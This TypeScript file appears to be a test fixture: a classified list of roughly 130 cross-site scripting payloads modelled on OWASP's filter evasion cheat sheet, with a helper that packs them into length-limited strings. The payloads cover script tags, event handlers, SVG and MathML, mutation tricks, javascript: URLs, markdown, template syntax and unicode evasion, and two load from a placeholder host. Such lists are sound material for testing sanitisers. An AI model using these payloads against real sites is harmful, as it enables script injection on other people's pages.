/**
 * Markup that runs where text is written as HTML, by the way in which it gets there. Own list; the classes are those
 * of OWASP's filter evasion cheat sheet. Each calls `alert` with its place in the list, which the browser reports.
 */
const classes: Readonly<Record<string, readonly string[]>> = {
  'script elements': [
    '<script>alert(#)</script>',
    '<SCRIPT>alert(#)</SCRIPT>',
    '<scr<script>ipt>alert(#)</script>',
    '<script/x>alert(#)</script>',
    '<script\n>alert(#)</script\n>',
    '<script type=module>alert(#)</script>',
    '<script src=data:,alert(#)></script>',
    '<script src=//xss.invalid/#></script>',
    '</script><script>alert(#)</script>',
    '<<script>alert(#)//<</script>',
  ],
  'out of where it stands': [
    '"><script>alert(#)</script>',
    "'><script>alert(#)</script>",
    '</title><script>alert(#)</script>',
    '</textarea><script>alert(#)</script>',
    '</style><script>alert(#)</script>',
    '--><script>alert(#)</script>',
    ']]><script>alert(#)</script>',
    '</noscript><script>alert(#)</script>',
    '</template><img src onerror=alert(#)>',
    '</iframe><img src onerror=alert(#)>',
    '" autofocus onfocus=alert(#) x="',
    "' autofocus onfocus=alert(#) x='",
    '` onmouseover=alert(#) ',
    '"-alert(#)-"',
    "'-alert(#)-'",
    "\\';alert(#)//",
    '${alert(#)}',
    '\u2028alert(#)\u2028',
    '</script><!--<script>alert(#)//-->',
    '{"@type":"</script><svg onload=alert(#)>"}',
  ],
  'handlers that need nobody': [
    '<img src=x onerror=alert(#)>',
    '<img src onerror=alert(#)>',
    '<IMG SRC=x OnErRoR=alert(#)>',
    '<img/src=x/onerror=alert(#)>',
    '<img src=x onerror="alert(#)"',
    '<img src=`x` onerror=alert(#)>',
    '<img src=x:x onerror=alert&lpar;#&rpar;>',
    '<img src=x onerror=&#97;lert(#)>',
    '<img src=x onerror=\\u0061lert(#)>',
    '<img\tsrc=x\tonerror=alert(#)>',
    '<img\fsrc=x\fonerror=alert(#)>',
    '<image src=x onerror=alert(#)>',
    '<body onload=alert(#)>',
    '<input autofocus onfocus=alert(#)>',
    '<select autofocus onfocus=alert(#)>',
    '<textarea autofocus onfocus=alert(#)>',
    '<a id=x tabindex=0 autofocus onfocus=alert(#)>',
    '<video><source onerror=alert(#)></video>',
    '<video src=x onerror=alert(#)>',
    '<audio src=x onerror=alert(#)>',
    '<details open ontoggle=alert(#)>x',
    '<marquee onstart=alert(#)>x',
    '<object data=x onerror=alert(#)></object>',
    '<link rel=stylesheet href=x onerror=alert(#)>',
    '<style onload=alert(#)></style>',
    '<iframe onload=alert(#)></iframe>',
    '<div onbeforetoggle=alert(#) popover id=p>x</div>',
    '<x onanimationstart=alert(#) style=animation-name:x>',
    '<p oncontentvisibilityautostatechange=alert(#) style=content-visibility:auto>',
    '<x contenteditable autofocus onfocus=alert(#)>',
  ],
  'handlers that wait for somebody': [
    '<b onclick=alert(#)>x</b>',
    '<b onmouseover=alert(#)>x</b>',
    '<b onpointerenter=alert(#)>x</b>',
    '<button popovertarget=p onclick=alert(#)>x</button>',
    '<form action=javascript:alert(#)><button>x</button></form>',
    '<button formaction=javascript:alert(#)>x</button>',
  ],
  'svg and mathml': [
    '<svg onload=alert(#)>',
    '<svg/onload=alert(#)>',
    '<svg><script>alert(#)</script></svg>',
    '<svg><script>alert&#40;#&#41;</script></svg>',
    '<svg><animate onbegin=alert(#) attributeName=x dur=1s>',
    '<svg><set onbegin=alert(#) attributeName=x>',
    '<svg><a xlink:href=javascript:alert(#)><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(#)>#x">',
    '<svg><foreignObject><img src onerror=alert(#)></foreignObject></svg>',
    '<math href=javascript:alert(#)>x</math>',
    '<math><mtext><img src onerror=alert(#)></mtext></math>',
    '<math><maction xlink:href=javascript:alert(#)>x</maction></math>',
  ],
  'markup that changes when it is read twice': [
    '<noscript><p title="</noscript><img src onerror=alert(#)>">',
    '<math><mtext><table><mglyph><style><img src onerror=alert(#)>',
    '<svg><style><img src onerror=alert(#)></style></svg>',
    '<svg></p><style><a id="</style><img src onerror=alert(#)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(#) src>">',
    '<template><img src onerror=alert(#)></template>',
    '<xmp><p title="</xmp><img src onerror=alert(#)>">',
    '<listing>&lt;img src onerror=alert(#)&gt;</listing>',
    '&lt;img src=x onerror=alert(#)&gt;',
    '&amp;lt;img src=x onerror=alert(#)&amp;gt;',
    '%3Cimg src onerror=alert(#)%3E',
    '<table><tr><td background=x><img src onerror=alert(#)>',
  ],
  addresses: [
    'javascript:alert(#)',
    'JaVaScRiPt:alert(#)',
    ' javascript:alert(#)',
    '\u0001javascript:alert(#)',
    'java\tscript:alert(#)',
    'java&#10;script:alert(#)',
    'javascript://x/%0aalert(#)',
    'data:text/html,<script>alert(#)</script>',
    'vbscript:alert(#)',
    '<a href=javascript:alert(#)>x</a>',
    '<iframe src=javascript:alert(#)></iframe>',
    '<iframe srcdoc="<script>alert(#)</script>"></iframe>',
    '<embed src=javascript:alert(#)>',
    '<object data=javascript:alert(#)></object>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(#)">',
    '<base href=javascript:alert(#)//>',
    '<link rel=import href=data:text/html,<script>alert(#)</script>>',
  ],
  'marks of our rich text': [
    '[x](javascript:alert(#))',
    '[x](https://x.invalid/"onmouseover=alert(#))',
    '[<img src onerror=alert(#)>](https://x.invalid/)',
    '[x](data:text/html,<script>alert(#)</script>)',
    '[x](https://x.invalid/)<img src onerror=alert(#)>',
    '**<img src onerror=alert(#)>**',
    '## <svg onload=alert(#)>',
    '- <svg onload=alert(#)>',
    '![x](x"onerror=alert(#))',
    '<javascript:alert(#)>',
  ],
  'marks of templates': [
    '{{constructor.constructor("alert(#)")()}}',
    '{{=alert(#)}}',
    '<%= alert(#) %>',
    '#{alert(#)}',
    "$& $` $' $1 <svg onload=alert(#)>",
    '[[${alert(#)}]]',
  ],
  styles: [
    '<style>@import "javascript:alert(#)";</style>',
    '<div style="background:url(javascript:alert(#))">',
    '<div style="width:expression(alert(#))">',
    '<style>*{background:url(//xss.invalid/#)}</style>',
  ],
  unicode: [
    '\u202e<img src onerror=alert(#)>',
    '\ufeff<script>alert(#)</script>',
    '＜script＞alert(#)＜/script＞',
    '\u00bcscript\u00bealert(#)\u00bc/script\u00be',
    '<ſcript>alert(#)</ſcript>',
    '<\u0131mg src onerror=alert(#)>',
    '\u{1f600}<svg/onload=alert(#)>',
    '+ADw-script+AD4-alert(#)+ADw-/script+AD4-',
  ],
};

/** In order; its place in this list is what a payload reports. */
export const payloads: readonly string[] = Object.values(classes)
  .flat()
  .map((text, place) => text.replaceAll('(#)', `(${place})`));

export const classNames = Object.keys(classes);

/** As many as fit, beginning at this one; the list goes round. At least one, where one fits. */
export function packOf(
  from: number,
  most: number,
  isAllowed: (payload: string) => boolean = () => true,
): { readonly text: string; readonly places: readonly number[] } {
  const places: number[] = [];
  let text = '';
  for (let n = 0; n < payloads.length; n += 1) {
    const place = (from + n) % payloads.length;
    const payload = payloads[place] ?? '';
    const longer = text === '' ? payload : `${text} ${payload}`;
    if (longer.length > most || !isAllowed(payload)) continue;
    text = longer;
    places.push(place);
  }
  return { text, places };
}
